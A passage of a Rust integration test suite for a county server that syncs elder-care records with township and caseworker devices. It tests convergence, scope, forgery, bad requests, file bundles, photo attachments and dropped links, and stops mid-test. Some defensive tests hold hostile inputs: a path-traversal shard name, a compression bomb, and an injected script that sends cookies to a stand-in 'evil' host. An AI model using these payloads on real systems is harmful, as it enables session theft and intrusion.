//! Devices and the county server, in-process on 127.0.0.1 port 0: enrollment, offline edits on
//! every device converging whatever the order, conflicts kept, and every kind of bad request
//! refused with nothing of it stored.

use std::sync::Mutex;

use xianglin_county::{self as server, ChangeStore, DeviceStore, SqliteStore};
use xianglin_demo::{self as demo, Rng};
use xianglin_domain::query;
use xianglin_domain::registry;
use xianglin_schema::record::{RecordMeta, new_id};
use xianglin_schema::user::{Role, User};
use xianglin_sync::Replica;
use xianglin_sync::ShardId;
use xianglin_sync::attachments::AttachmentStore;
use xianglin_sync::client::{self, http};
use xianglin_sync::protocol::{EnrollRequest, PROTOCOL, ShardPush, SyncRequest, wire};
use xianglin_sync::replica::Clock;

use crate::support::{elder, load_places, now};
use xianglin_domain::patrol::store_visit;
use xianglin_domain::registry::store_elder;

/// Township 庄口镇 and one of its villages; township 文武坝镇 and one of its villages.
const TOWNSHIP_A: &str = "360733105000";
pub(crate) const VILLAGE_A: &str = "360733105201";
const TOWNSHIP_B: &str = "360733100000";

fn village_of(township: &str) -> String {
    xianglin_schema::place::huichang()
        .into_iter()
        .find(|place| place.code.starts_with(&township[..9]) && place.code != township)
        .unwrap()
        .code
}

/// A county server on a free loopback port, over a store in `dir`.
pub(crate) struct County {
    pub(crate) url: String,
    pub(crate) database: std::path::PathBuf,
    stop: Option<tokio::sync::oneshot::Sender<()>>,
    task: Option<tokio::task::JoinHandle<()>>,
}

impl County {
    pub(crate) async fn start(database: std::path::PathBuf) -> County {
        County::start_with(database, server::Limits::default()).await
    }

    async fn start_with(database: std::path::PathBuf, limits: server::Limits) -> County {
        let replica = Replica::open(&database).unwrap();
        let store = SqliteStore::new(replica).unwrap();
        let attachments = AttachmentStore::new(database.with_extension("attachments"));
        let releases = server::Releases::new(database.with_extension("releases"));
        let listener = tokio::net::TcpListener::bind("127.0.0.1:0").await.unwrap();
        let url = format!("http://{}", listener.local_addr().unwrap());
        let (stop, stopped) = tokio::sync::oneshot::channel::<()>();
        let task = tokio::spawn(async move {
            server::serve(listener, server::router_with(Box::new(store), attachments, releases, limits), async {
                let _ = stopped.await;
            })
            .await
            .unwrap();
        });
        County { url, database, stop: Some(stop), task: Some(task) }
    }

    /// Stops gracefully, releasing the database.
    pub(crate) async fn stop(&mut self) {
        if let Some(stop) = self.stop.take() {
            let _ = stop.send(());
        }
        if let Some(task) = self.task.take() {
            task.await.unwrap();
        }
    }

    /// Runs `work` on the store, the way the admin command does, while the server is stopped.
    pub(crate) fn admin<T>(&self, work: impl FnOnce(&mut SqliteStore) -> T) -> T {
        let mut store = SqliteStore::new(Replica::open(&self.database).unwrap()).unwrap();
        work(&mut store)
    }
}

/// A new county database holding 会昌县's places and policy.
pub(crate) fn county_database(dir: &tempfile::TempDir) -> std::path::PathBuf {
    let database = dir.path().join("county.sqlite");
    let mut replica = Replica::open(&database).unwrap();
    load_places(&mut replica);
    database
}

/// Creates a user and an enrollment code for them.
pub(crate) fn code_for(store: &mut SqliteStore, role: Role, places: &[&str], name: &str) -> String {
    let user = User {
        id: new_id(),
        name: name.into(),
        role,
        places: places.iter().map(|place| place.to_string()).collect(),
        phone: None,
        meta: RecordMeta::created(now(), "county-server"),
    };
    let code = server::new_code();
    // The server judges a code's expiry by the system clock, whatever day the scenario pretends it is.
    let issued = xianglin_schema::clock::now();
    store.create_code(&user, &code, issued + chrono::Duration::days(7), issued).unwrap();
    code
}

/// An enrolled device: its replica and its link.
pub(crate) struct Device {
    pub(crate) replica: Mutex<Replica>,
    pub(crate) link: http::Link,
    pub(crate) token: String,
}

impl Device {
    async fn enroll(county: &County, code: &str, label: &str) -> Device {
        Device::enroll_replica(county, code, label, Replica::open_in_memory().unwrap()).await
    }

    /// Enrolls a PC whose replica is `replica` (one on disk, encrypted, where backups matter).
    pub(crate) async fn enroll_replica(county: &County, code: &str, label: &str, mut replica: Replica) -> Device {
        replica.set_clock(Clock::Fixed(now()));
        let enrolled = http::enroll(
            &county.url,
            None,
            &EnrollRequest { code: code.into(), device_id: replica.device_id(), label: label.into() },
        )
        .await
        .unwrap();
        replica.set_user(&enrolled.scope.user_id).unwrap();
        Device {
            replica: Mutex::new(replica),
            link: http::Link::new(&county.url, None, &enrolled.token).unwrap(),
            token: enrolled.token,
        }
    }

    pub(crate) async fn sync(&self) -> client::RoundTrip {
        self.link.sync(&self.replica).await.unwrap()
    }

    pub(crate) fn add_elder(&self, rng: &mut Rng, village: &str) -> String {
        store_elder(&mut self.replica.lock().unwrap(), elder(rng, village)).unwrap().id
    }

    fn heads(&self, shard: &ShardId) -> Vec<automerge::ChangeHash> {
        self.replica.lock().unwrap().heads(shard).unwrap()
    }

    fn has_shard(&self, shard: &ShardId) -> bool {
        self.replica.lock().unwrap().shards().unwrap().contains(shard)
    }
}

/// A county with 庄口镇's station and 白沙村's caseworker enrolled and synced once.
pub(crate) async fn station_and_caseworker(dir: &tempfile::TempDir) -> (County, Device, Device) {
    let county = County::start(county_database(dir)).await;
    let codes = county.admin(|store| {
        [
            code_for(store, Role::StationDirector, &[TOWNSHIP_A], "庄口站"),
            code_for(store, Role::Caseworker, &[VILLAGE_A], "刘芳"),
        ]
    });
    let station = Device::enroll(&county, &codes[0], "庄口镇敬老院").await;
    let caseworker = Device::enroll(&county, &codes[1], "刘芳的电脑").await;
    station.sync().await;
    caseworker.sync().await;
    (county, station, caseworker)
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn offline_edits_on_four_devices_converge_in_any_order_and_conflicts_keep_both_values() {
    let dir = tempfile::tempdir().unwrap();
    let mut county = County::start(county_database(&dir)).await;
    let village_b = village_of(TOWNSHIP_B);
    let codes = county.admin(|store| {
        [
            code_for(store, Role::StationDirector, &[TOWNSHIP_A], "庄口站"),
            code_for(store, Role::StationDirector, &[TOWNSHIP_B], "文武坝站"),
            code_for(store, Role::Caseworker, &[VILLAGE_A], "刘芳"),
            code_for(store, Role::CountyReviewer, &["360733000000"], "县审核员"),
        ]
    });
    let station_a = Device::enroll(&county, &codes[0], "庄口镇敬老院").await;
    let station_b = Device::enroll(&county, &codes[1], "文武坝镇敬老院").await;
    let caseworker = Device::enroll(&county, &codes[2], "刘芳的电脑").await;
    let reviewer = Device::enroll(&county, &codes[3], "县民政局").await;
    let devices = [&station_a, &station_b, &caseworker, &reviewer];

    // The first sync brings the county document (places, policy, users, devices) to everyone.
    for device in devices {
        device.sync().await;
    }
    let county_shard = ShardId::county(demo::DEMO_COUNTY);
    let county_heads = county.admin(|store| store.heads(&county_shard).unwrap());
    for device in devices {
        assert_eq!(device.heads(&county_shard), county_heads);
    }

    // Offline: each registers elders in its own places.
    let mut rng = Rng::new(7);
    let shared = station_a.add_elder(&mut rng, VILLAGE_A);
    station_a.add_elder(&mut rng, &village_of(TOWNSHIP_A));
    station_b.add_elder(&mut rng, &village_b);
    caseworker.add_elder(&mut rng, VILLAGE_A);

    // The caseworker gets 庄口镇's elder, then both change its phone while offline.
    station_a.sync().await;
    caseworker.sync().await;
    let edit_phone = |device: &Device, phone: &str| {
        let mut replica = device.replica.lock().unwrap();
        let mut elder = registry::elder_for_edit(&replica, &shared).unwrap();
        elder.phone = Some(phone.into());
        store_elder(&mut replica, elder).unwrap();
    };
    edit_phone(&station_a, "13800000001");
    edit_phone(&caseworker, "13900000002");

    // Sync in two different orders; then everyone once more.
    for device in [&reviewer, &caseworker, &station_b, &station_a, &reviewer, &station_b] {
        device.sync().await;
    }
    for device in devices {
        device.sync().await;
    }

    // Every shard a device may hold is equal to the county's; nothing outside its scope reached it.
    let shards = county.admin(|store| store.replica().shards().unwrap());
    for shard in &shards {
        let server_heads = county.admin(|store| store.heads(shard).unwrap());
        assert_eq!(reviewer.heads(shard), server_heads, "reviewer, {shard}");
    }
    let elders_a = ShardId::Elders { village: VILLAGE_A.into() };
    let elders_b = ShardId::Elders { village: village_b.clone() };
    assert_eq!(station_a.heads(&elders_a), caseworker.heads(&elders_a));
    assert_eq!(station_b.heads(&elders_b), reviewer.heads(&elders_b));
    assert!(!station_a.has_shard(&elders_b) && !caseworker.has_shard(&elders_b) && !station_b.has_shard(&elders_a));

    // Both phone numbers are kept, on every device that holds the elder.
    for device in [&station_a, &caseworker, &reviewer] {
        let replica = device.replica.lock().unwrap();
        let conflicts = query::conflicts_of(&replica, &shared).unwrap();
        let phone = conflicts.iter().find(|conflict| conflict.field == "phone").expect("a phone conflict");
        let mut values = phone.values.clone();
        values.sort();
        assert_eq!(values, ["13800000001", "13900000002"]);
    }

    // A quiet resync moves nothing, in one small request and answer.
    for device in devices {
        assert_eq!(device.sync().await, client::RoundTrip::default());
    }
    let (quiet, _) = client::prepare(&mut reviewer.replica.lock().unwrap()).unwrap();
    assert!(quiet.shards.is_empty());
    let body = wire::encode(&quiet);
    let answer = reqwest::Client::new()
        .post(format!("{}/v1/sync", county.url))
        .bearer_auth(&reviewer.token)
        .header("content-encoding", wire::CONTENT_ENCODING)
        .body(body.clone())
        .send()
        .await
        .unwrap();
    assert_eq!(answer.status().as_u16(), 200);
    let answer = answer.bytes().await.unwrap();
    println!("quiet resync: request {} bytes, answer {} bytes (bodies)", body.len(), answer.len());
    assert!(body.len() + answer.len() < 1024, "a quiet resync should be tiny");
    county.stop().await;
}

/// Posts `body` to the sync endpoint as raw bytes; returns the status and the refusal code.
async fn post_raw(county: &County, token: &str, body: Vec<u8>) -> (u16, String) {
    let response = reqwest::Client::new()
        .post(format!("{}/v1/sync", county.url))
        .bearer_auth(token)
        .header("content-type", wire::CONTENT_TYPE)
        .header("content-encoding", wire::CONTENT_ENCODING)
        .body(body)
        .send()
        .await
        .unwrap();
    let status = response.status().as_u16();
    let bytes = response.bytes().await.unwrap();
    let code = serde_json::from_slice::<serde_json::Value>(&bytes)
        .ok()
        .and_then(|body| body["code"].as_str().map(str::to_owned))
        .unwrap_or_default();
    (status, code)
}

/// Everything the county stores, to compare before and after a refused request.
fn county_state(county: &County) -> (u64, Vec<(ShardId, Vec<automerge::ChangeHash>)>) {
    county.admin(|store| {
        let shards = store.replica().shards().unwrap();
        let heads = shards.into_iter().map(|shard| (shard.clone(), store.heads(&shard).unwrap())).collect();
        (store.changed_seq().unwrap(), heads)
    })
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn bad_requests_are_refused_whole_and_store_nothing() {
    let dir = tempfile::tempdir().unwrap();
    let mut county = County::start(county_database(&dir)).await;
    let (code, spare) = county.admin(|store| {
        (
            code_for(store, Role::Caseworker, &[VILLAGE_A], "刘芳"),
            code_for(store, Role::Caseworker, &[VILLAGE_A], "张伟"),
        )
    });
    // The link's token is private; enroll by hand to keep it.
    let mut replica = Replica::open_in_memory().unwrap();
    replica.set_clock(Clock::Fixed(now()));
    let enrolled = http::enroll(
        &county.url,
        None,
        &EnrollRequest { code: code.clone(), device_id: replica.device_id(), label: "刘芳的电脑".into() },
    )
    .await
    .unwrap();
    replica.set_user(&enrolled.scope.user_id).unwrap();
    let token = enrolled.token.clone();
    let device = Device {
        replica: Mutex::new(replica),
        link: http::Link::new(&county.url, None, &token).unwrap(),
        token: token.clone(),
    };
    device.sync().await;

    // A used code enrolls nobody else.
    let reused = http::enroll(
        &county.url,
        None,
        &EnrollRequest { code, device_id: "aabbccddeeff00112233".into(), label: "x".into() },
    )
    .await;
    assert!(matches!(reused, Err(http::SyncError::Refused { ref code, .. }) if code == "bad_code"), "{reused:?}");

    let mut rng = Rng::new(3);
    device.add_elder(&mut rng, VILLAGE_A);
    let (request, _) = client::prepare(&mut device.replica.lock().unwrap()).unwrap();
    let good_push = request.shards.iter().find(|push| !push.changes.is_empty()).unwrap().clone();
    let before = county_state(&county);

    // Outside the device's villages: the whole request is refused, its in-scope shard too.
    let outside = ShardId::Elders { village: "360733105202".into() };
    let mut elsewhere = Replica::open_in_memory().unwrap();
    load_places(&mut elsewhere);
    let mut stranger = elder(&mut rng, "360733105202");
    stranger.id = new_id();
    let mut foreign_author = elsewhere.author();
    foreign_author.at = now();
    elsewhere
        .commit(&outside, &[(stranger.id.clone(), serde_json::to_value(&stranger).unwrap())], &foreign_author)
        .unwrap();
    let foreign_changes = elsewhere.change_list_since(&outside, &[]).unwrap();
    let out_of_scope = SyncRequest {
        protocol: PROTOCOL,
        cursor: 0,
        shards: vec![
            good_push.clone(),
            ShardPush { shard: outside.to_string(), heads: Vec::new(), changes: foreign_changes.clone() },
        ],
        app_version: String::new(),
        user_id: String::new(),
        waiting: 0,
        arch: String::new(),
    };
    let body = |request: &SyncRequest| wire::encode(request);
    assert_eq!(post_raw(&county, &token, body(&out_of_scope)).await, (403, "forbidden".into()));

    // In scope, but made by another actor: forged.
    let elders_a = ShardId::Elders { village: VILLAGE_A.into() };
    let mut forger = Replica::open_in_memory().unwrap();
    load_places(&mut forger);
    let mut forged = elder(&mut rng, VILLAGE_A);
    forged.id = new_id();
    let forger_author = forger.author();
    forger.commit(&elders_a, &[(forged.id.clone(), serde_json::to_value(&forged).unwrap())], &forger_author).unwrap();
    let forged_request = SyncRequest {
        protocol: PROTOCOL,
        cursor: 0,
        shards: vec![ShardPush {
            shard: elders_a.to_string(),
            heads: Vec::new(),
            changes: forger.change_list_since(&elders_a, &[]).unwrap(),
        }],
        app_version: String::new(),
        user_id: String::new(),
        waiting: 0,
        arch: String::new(),
    };
    assert_eq!(post_raw(&county, &token, body(&forged_request)).await, (403, "forged_actor".into()));

    // Garbage: not zstd, not MessagePack, a change that does not decode, a malformed shard, an
    // old protocol.
    assert_eq!(post_raw(&county, &token, b"\x28\xb5\x2f\xfdnot really".to_vec()).await.1, "invalid");
    let not_a_request = zstd::bulk::compress(b"{\"protocol\":", 3).unwrap();
    assert_eq!(post_raw(&county, &token, not_a_request).await.1, "invalid");
    let mut broken = good_push.clone();
    let half = broken.changes[0].len() / 2;
    broken.changes[0].truncate(half);
    let broken_request = SyncRequest {
        protocol: PROTOCOL,
        cursor: 0,
        shards: vec![broken],
        app_version: String::new(),
        user_id: String::new(),
        waiting: 0,
        arch: String::new(),
    };
    assert_eq!(post_raw(&county, &token, body(&broken_request)).await, (400, "invalid".into()));
    let bad_shard = SyncRequest {
        protocol: PROTOCOL,
        cursor: 0,
        shards: vec![ShardPush { shard: "elders/../../etc".into(), heads: Vec::new(), changes: Vec::new() }],
        app_version: String::new(),
        user_id: String::new(),
        waiting: 0,
        arch: String::new(),
    };
    assert_eq!(post_raw(&county, &token, body(&bad_shard)).await, (400, "invalid".into()));
    let old = SyncRequest {
        protocol: PROTOCOL + 1,
        cursor: 0,
        shards: Vec::new(),
        app_version: String::new(),
        user_id: String::new(),
        waiting: 0,
        arch: String::new(),
    };
    assert_eq!(post_raw(&county, &token, body(&old)).await, (400, "protocol".into()));

    // Oversized: a body that inflates past the limit, and one too large even compressed.
    let bomb = zstd::bulk::compress(&vec![b' '; xianglin_sync::protocol::MAX_REQUEST_BYTES + 1], 3).unwrap();
    assert_eq!(post_raw(&county, &token, bomb).await, (413, "too_large".into()));
    let huge = vec![b'x'; xianglin_sync::protocol::MAX_REQUEST_BYTES + 1];
    assert_eq!(post_raw(&county, &token, huge).await.0, 413);

    // No token, a wrong token.
    assert_eq!(post_raw(&county, "", body(&old)).await.0, 401);
    assert_eq!(post_raw(&county, "not-a-token", body(&old)).await, (401, "unauthorized".into()));

    // None of it stored anything.
    assert_eq!(county_state(&county), before);

    // The same good request twice stores it once.
    let good = SyncRequest {
        protocol: PROTOCOL,
        cursor: 0,
        shards: vec![good_push],
        app_version: String::new(),
        user_id: String::new(),
        waiting: 0,
        arch: String::new(),
    };
    assert_eq!(post_raw(&county, &token, body(&good)).await.0, 200);
    let once = county_state(&county);
    assert_eq!(post_raw(&county, &token, body(&good)).await.0, 200);
    assert_eq!(county_state(&county), once);
    assert_ne!(once, before);

    // Revoked: refused at once; another device's token still works.
    let other = Device::enroll(&county, &spare, "张伟的电脑").await;
    let device_id = device.replica.lock().unwrap().device_id();
    county.admin(|store| assert!(store.revoke(&device_id, now()).unwrap()));
    assert_eq!(post_raw(&county, &token, body(&old)).await, (401, "revoked".into()));
    // The revoked device keeps only what the county never received: its unsent elder.
    let unsent = device.add_elder(&mut rng, VILLAGE_A);
    let refused = device.link.sync(&device.replica).await;
    assert!(matches!(refused, Err(ref error) if error.code() == "revoked"), "{refused:?}");
    {
        let replica = device.replica.lock().unwrap();
        let county_shard = ShardId::county(demo::DEMO_COUNTY);
        assert!(!replica.shards().unwrap().contains(&county_shard), "synced data left the device");
        assert!(registry::elder_for_edit(&replica, &unsent).is_ok(), "the unsent edit stayed");
    }
    other.sync().await;
    county.stop().await;
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_station_without_a_link_syncs_by_file_both_ways_and_twice_changes_nothing() {
    let dir = tempfile::tempdir().unwrap();
    let (mut county, station, caseworker) = station_and_caseworker(&dir).await;

    // Weeks without a link: the station registers elders; the caseworker syncs one over the network.
    let mut rng = Rng::new(5);
    for _ in 0..3 {
        station.add_elder(&mut rng, VILLAGE_A);
    }
    caseworker.add_elder(&mut rng, VILLAGE_A);
    caseworker.sync().await;

    let bundle = client::bundle::export(&mut station.replica.lock().unwrap(), &station.token).unwrap();
    let before = county_state(&county);

    // A truncated file, an altered one: refused, nothing stored.
    let truncated = &bundle[..bundle.len() / 2];
    assert!(
        county.admin(|store| server::import_bundle(store, &server::Releases::new("/nonexistent"), truncated)).is_err()
    );
    let mut envelope = client::bundle::read(&bundle).unwrap();
    let middle = envelope.sealed.len() / 2;
    envelope.sealed[middle] ^= 1;
    let altered = rmp_serde::to_vec_named(&envelope).unwrap();
    let refused = county
        .admin(|store| server::import_bundle(store, &server::Releases::new("/nonexistent"), &altered))
        .unwrap_err();
    assert_eq!(refused.code(), "invalid");
    assert_eq!(county_state(&county), before);

    // The county imports it (twice: the second changes nothing) and writes the answer file.
    let (_, answer) =
        county.admin(|store| server::import_bundle(store, &server::Releases::new("/nonexistent"), &bundle)).unwrap();
    let imported = county_state(&county);
    assert_ne!(imported, before);
    county.admin(|store| server::import_bundle(store, &server::Releases::new("/nonexistent"), &bundle)).unwrap();
    assert_eq!(county_state(&county), imported);

    // Another computer cannot take the answer in; the station can, twice without change.
    assert!(
        client::bundle::import_answer(&mut caseworker.replica.lock().unwrap(), &caseworker.token, &answer).is_err()
    );
    let (moved, _) =
        client::bundle::import_answer(&mut station.replica.lock().unwrap(), &station.token, &answer).unwrap();
    assert_eq!(moved.pulled_changes, 1, "the caseworker's elder came back on the stick");
    let shard = ShardId::Elders { village: VILLAGE_A.into() };
    let station_heads = station.heads(&shard);
    client::bundle::import_answer(&mut station.replica.lock().unwrap(), &station.token, &answer).unwrap();
    assert_eq!(station.heads(&shard), station_heads);

    // Station, county and caseworker hold the same village.
    caseworker.sync().await;
    let county_heads = county.admin(|store| store.heads(&shard).unwrap());
    assert_eq!(station_heads, county_heads);
    assert_eq!(caseworker.heads(&shard), county_heads);
    county.stop().await;
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_moved_caseworker_pushes_their_last_edits_then_loses_the_old_village_and_gains_the_new() {
    let dir = tempfile::tempdir().unwrap();
    let (mut county, station, caseworker) = station_and_caseworker(&dir).await;
    let new_village = "360733105202";
    let mut rng = Rng::new(9);
    station.add_elder(&mut rng, new_village);
    station.add_elder(&mut rng, VILLAGE_A);
    station.sync().await;
    caseworker.sync().await;
    let old_shard = ShardId::Elders { village: VILLAGE_A.into() };
    let new_shard = ShardId::Elders { village: new_village.into() };
    assert!(caseworker.has_shard(&old_shard) && !caseworker.has_shard(&new_shard));

    // Offline, the caseworker registers one more elder in the old village; meanwhile the county moves them.
    let last_edit = caseworker.add_elder(&mut rng, VILLAGE_A);
    let user_id = caseworker.replica.lock().unwrap().user_id().to_owned();
    county.admin(|store| store.reassign(&user_id, &[new_village.to_owned()], now()).unwrap());

    let moved = caseworker.sync().await;
    assert_eq!(moved.removed_shards, 1, "{moved:?}");
    assert!(!caseworker.has_shard(&old_shard), "the old village left the device");
    assert!(caseworker.has_shard(&new_shard), "the new village arrived");
    let scope = client::scope(&caseworker.replica.lock().unwrap()).unwrap().unwrap();
    assert_eq!(scope.places, [new_village]);

    // The edit made before the move was not lost: the station has it.
    station.sync().await;
    assert!(registry::elder_for_edit(&station.replica.lock().unwrap(), &last_edit).is_ok());

    // The caseworker's place pickers now offer the new village only.
    let tree = query::place_tree(&caseworker.replica.lock().unwrap()).unwrap();
    let villages: Vec<String> =
        tree.iter().flat_map(|township| township.children.iter().map(|village| village.code.clone())).collect();
    assert_eq!(villages, [new_village]);
    county.stop().await;
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_visit_photo_travels_once_to_the_county_and_on_to_the_station_but_not_beyond() {
    let dir = tempfile::tempdir().unwrap();
    // Room for one stray upload per device, no more.
    let (stray, another) = (crate::support::png(30, 20), crate::support::png(31, 20));
    let quota = (stray.len() + another.len() - 1) as u64;
    let limits = server::Limits { unreferenced_quota_bytes: quota, ..Default::default() };
    let mut county = County::start_with(county_database(&dir), limits).await;
    let codes = county.admin(|store| {
        [
            code_for(store, Role::Caseworker, &[VILLAGE_A], "刘芳"),
            code_for(store, Role::StationDirector, &[TOWNSHIP_A], "庄口站"),
            code_for(store, Role::StationDirector, &[TOWNSHIP_B], "文武坝站"),
        ]
    });
    let caseworker = Device::enroll(&county, &codes[0], "刘芳的电脑").await;
    let station = Device::enroll(&county, &codes[1], "庄口镇敬老院").await;
    let elsewhere = Device::enroll(&county, &codes[2], "文武坝镇敬老院").await;
    caseworker.sync().await;

    // The caseworker visits an elder and takes a photo.
    let photos = AttachmentStore::new(dir.path().join("caseworker-photos"));
    let png = crate::support::png(64, 48);
    let photo = photos.put(&png).unwrap();
    // A photo picked for a form that was then dropped: no record refers to it, it stays here.
    photos.put(&crate::support::png(8, 8)).unwrap();
    {
        let mut replica = caseworker.replica.lock().unwrap();
        let elder = store_elder(&mut replica, elder(&mut Rng::new(4), VILLAGE_A)).unwrap();
        let mut visit =
            crate::support::visit(&elder, now() - chrono::Duration::hours(2), xianglin_schema::visit::Severity::Normal);
        visit.photos.insert(photo.sha256.clone(), photo.clone());
        store_visit(&mut replica, visit).unwrap();
    }
    caseworker.sync().await;
    assert_eq!(caseworker.link.sync_attachments(&caseworker.replica, &photos).await.unwrap(), (1, 0));
    assert_eq!(caseworker.link.sync_attachments(&caseworker.replica, &photos).await.unwrap(), (0, 0), "sent once");

    // The township station gets the visit and then its photo, byte for byte.
    let station_photos = AttachmentStore::new(dir.path().join("station-photos"));
    station.sync().await;
    assert_eq!(station.link.sync_attachments(&station.replica, &station_photos).await.unwrap(), (0, 1));
    assert_eq!(station_photos.get(&photo.sha256).unwrap(), png);
    assert_eq!(station.link.sync_attachments(&station.replica, &station_photos).await.unwrap(), (0, 0));

    // Another township's station may not fetch it, even knowing the hash.
    elsewhere.sync().await;
    let refused = reqwest::Client::new()
        .get(format!("{}/v1/attachments/{}", county.url, photo.sha256))
        .bearer_auth(&elsewhere.token)
        .send()
        .await
        .unwrap();
    assert_eq!(refused.status().as_u16(), 403);
    // Uploads the server refuses leave nothing on its disk: bytes that do not hash to their
    // name, and a picture's header followed by a script (named by its true hash).
    let county_files = county.database.with_extension("attachments");
    let files_on_disk = || {
        walk(&county_files)
            .into_iter()
            .map(|path| path.file_name().unwrap().to_string_lossy().into_owned())
            .collect::<Vec<_>>()
    };
    let before = files_on_disk();
    assert_eq!(before, vec![photo.sha256.clone()]);
    let put = |token: String, name: String, body: Vec<u8>| {
        let url = format!("{}/v1/attachments/{name}", county.url);
        async move { reqwest::Client::new().put(url).bearer_auth(token).body(body).send().await.unwrap().status().as_u16() }
    };
    assert_eq!(put(elsewhere.token.clone(), "0".repeat(64), png.clone()).await, 400);
    let mut script = png[..16].to_vec();
    script.extend(b"<script>document.location='http://evil/'+document.cookie</script>");
    assert!((script.len() as u64) < quota, "refused for what it is, not for the quota");
    assert_eq!(put(elsewhere.token.clone(), sha256_hex(&script), script).await, 400);
    assert_eq!(files_on_disk(), before);

    // A picture no record refers to is held within the device's quota, and no further.
    assert_eq!(put(elsewhere.token.clone(), sha256_hex(&stray), stray.clone()).await, 204);
    assert_eq!(put(elsewhere.token.clone(), sha256_hex(&another), another).await, 507);
    // Once the window has passed with no record referring to it, it is deleted; the visit's
    // photo stays.
    let sweep = AttachmentStore::new(county_files.clone());
    let later = xianglin_schema::clock::now() + chrono::Duration::hours(25);
    assert_eq!(county.admin(|store| server::collect_unreferenced(store, &sweep, later).unwrap()), 1);
    assert_eq!(files_on_disk(), before);
    county.stop().await;
}

fn sha256_hex(bytes: &[u8]) -> String {
    use sha2::Digest;
    sha2::Sha256::digest(bytes).iter().map(|byte| format!("{byte:02x}")).collect()
}

/// Every file under `root` (temporary ones included).
fn walk(root: &std::path::Path) -> Vec<std::path::PathBuf> {
    let Ok(entries) = std::fs::read_dir(root) else { return Vec::new() };
    let mut files = Vec::new();
    for entry in entries {
        let path = entry.unwrap().path();
        if path.is_dir() { files.extend(walk(&path)) } else { files.push(path) }
    }
    files.sort();
    files
}

/// A loopback proxy to `upstream` that cuts every connection once `up` bytes went to the server
/// or `down` bytes came back: a rural link dropping mid-request or mid-answer.
async fn cutting_proxy(upstream: String, up: usize, down: usize) -> String {
    use tokio::io::{AsyncReadExt, AsyncWriteExt};
    let listener = tokio::net::TcpListener::bind("127.0.0.1:0").await.unwrap();
    let address = format!("http://{}", listener.local_addr().unwrap());
    let upstream = upstream.trim_start_matches("http://").to_owned();
    tokio::spawn(async move {
        while let Ok((client, _)) = listener.accept().await {
            let Ok(server) = tokio::net::TcpStream::connect(&upstream).await else { continue };
            let (client_read, client_write) = client.into_split();
            let (server_read, server_write) = server.into_split();
            let pipe = |mut from: tokio::net::tcp::OwnedReadHalf,
                        mut to: tokio::net::tcp::OwnedWriteHalf,
                        limit: usize| async move {
                let mut buffer = [0u8; 1024];
                let mut sent = 0;
                while sent < limit {
                    let Ok(read) = from.read(&mut buffer).await else { break };
                    if read == 0 {
                        break;
                    }
                    let take = read.min(limit - sent);
                    if to.write_all(&buffer[..take]).await.is_err() {
                        break;
                    }
                    sent += take;
                }
                // Dropping both halves closes the connection: the link is gone.
            };
            let upward = tokio::spawn(pipe(client_read, server_write, up));
            let downward = tokio::spawn(pipe(server_read, client_write, down));
            let _ = tokio::join!(upward, downward);
        }
    });
    address
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_link_cut_at_any_point_of_a_request_or_answer_loses_and_doubles_nothing() {
    let dir = tempfile::tempdir().unwrap();
    let (mut county, station, caseworker) = station_and_caseworker(&dir).await;
    let shard = ShardId::Elders { village: VILLAGE_A.into() };
    let mut rng = Rng::new(21);
    let mut registered = 0;
    let mut cut_rounds = 0;

    // Cut points in bytes, upward (the request) and downward (the answer).
    for (round, (up, down)) in [
        (0, usize::MAX),
        (40, usize::MAX),
        (300, usize::MAX),
        (800, usize::MAX),
        (usize::MAX, 0),
        (usize::MAX, 30),
        (usize::MAX, 100),
        (usize::MAX, 160),
    ]
    .into_iter()
    .enumerate()
    {
        for _ in 0..3 {
            station.add_elder(&mut rng, VILLAGE_A);
            registered += 1;
        }
        let proxy = cutting_proxy(county.url.clone(), up, down).await;
        let cut = http::Link::new(&proxy, None, &station.token).unwrap();
        // A cut beyond the end of a short message lets it through; most cuts land inside.
        if cut.sync(&station.replica).await.is_err() {
            cut_rounds += 1;
        }

        // The next sync over a good link completes what the cut one started.
        station.sync().await;
        caseworker.sync().await;
        let county_heads = county.admin(|store| store.heads(&shard).unwrap());
        assert_eq!(station.heads(&shard), county_heads, "round {round}");
        assert_eq!(caseworker.heads(&shard), county_heads, "round {round}");
        let held = caseworker
            .replica
            .lock()
            .unwrap()
            .with_document(&shard, |document| document.get_changes(&[]).len())
            .unwrap();
        let stored = county.admin(|store| store.replica().change_list_since(&shard, &[]).unwrap().len());
        assert_eq!(held, stored, "round {round}: every change once");
    }
    let elders = xianglin_domain::query::search_elders(
        &caseworker.replica.lock().unwrap(),
        &xianglin_schema::api::ElderSearch {
            place_code: Some(VILLAGE_A.into()),
            query: String::new(),
            include_inactive: true,
            page: 1,
            page_size: 200,
        },
    )
    .unwrap();
    assert_eq!(elders.total as usize, registered, "nothing lost, nothing doubled");
    assert!(cut_rounds >= 7, "only {cut_rounds} of 8 links were cut mid-message");
    county.stop().await;
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_server_stopping_finishes_the_sync_in_flight() {
    use tokio::io::{AsyncReadExt, AsyncWriteExt};
    let dir = tempfile::tempdir().unwrap();
    let mut county = County::start(county_database(&dir)).await;
    let code = county.admin(|store| code_for(store, Role::Caseworker, &[VILLAGE_A], "刘芳"));
    let device = Device::enroll(&county, &code, "刘芳的电脑").await;
    device.sync().await;
    device.add_elder(&mut Rng::new(8), VILLAGE_A);
    let (request, _) = client::prepare(&mut device.replica.lock().unwrap()).unwrap();
    let body = wire::encode(&request);
    let head = format!(
        "POST /v1/sync HTTP/1.1\r\nhost: county\r\nauthorization: Bearer {}\r\ncontent-type: application/msgpack\r\ncontent-encoding: zstd\r\ncontent-length: {}\r\nconnection: close\r\n\r\n",
        device.token,
        body.len()
    );

    // Half the request is on the wire when the server is told to stop; then the rest arrives.
    let mut stream = tokio::net::TcpStream::connect(county.url.trim_start_matches("http://")).await.unwrap();
    stream.write_all(head.as_bytes()).await.unwrap();
    stream.write_all(&body[..body.len() / 2]).await.unwrap();
    tokio::time::sleep(std::time::Duration::from_millis(100)).await;
    let _ = county.stop.take().unwrap().send(());
    tokio::time::sleep(std::time::Duration::from_millis(100)).await;
    stream.write_all(&body[body.len() / 2..]).await.unwrap();
    let mut answer = Vec::new();
    stream.read_to_end(&mut answer).await.unwrap();
